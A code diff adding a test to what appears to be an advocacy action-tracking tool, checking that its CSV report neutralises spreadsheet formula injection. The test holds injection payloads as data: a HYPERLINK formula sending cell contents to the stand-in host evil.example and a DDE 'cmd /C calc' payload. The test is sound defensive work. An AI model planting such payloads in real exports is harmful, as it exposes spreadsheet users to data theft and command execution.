@@ -117,3 +117,28 @@ def test_spanish_interface(tmp_path):
     assert "Destinatario" in out and "Cartas" in out
     assert "Hicimos 12 acciones por la Acción Urgente 100.21" in out
     assert "6 cartas, 1 correo electrónico, 4 faxes y 1 llamada telefónica" in out
+
+
+def test_csv_defuses_formula_like_cells_like_the_manifest(tmp_path):
+    """A target name from a case file, or a target id from the ledger, that a spreadsheet
+    would run as a formula comes out as text ('=...), as in a batch's manifest.csv."""
+    from ._channels_util import custom_case
+
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+
+    def edit(data):
+        data["targets"][0]["name"] = formula
+
+    root = custom_case(tmp_path, edit)
+    assert run("record", "ua-test", "--channel", "call", "--to", "president",
+               "--cases", str(root)).exit_code == 0
+    with Ledger() as ledger:  # a target no longer in any case file: only its id is known
+        ledger.record("ua-gone", "@SUM(1+1)*cmd|' /C calc'!A0", "letter")
+        ledger.record("ua-gone", "-2+3", "letter", count=2)
+    out = run("report", "--csv", "--cases", str(root)).output
+    rows = list(csv.DictReader(io.StringIO(out)))
+    cells = [v for r in rows for v in r.values()]
+    assert "'" + formula in cells and "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
+    assert "'-2+3" in cells
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert sorted(r["count"] for r in rows) == ["1", "1", "2"]  # numbers stay numbers
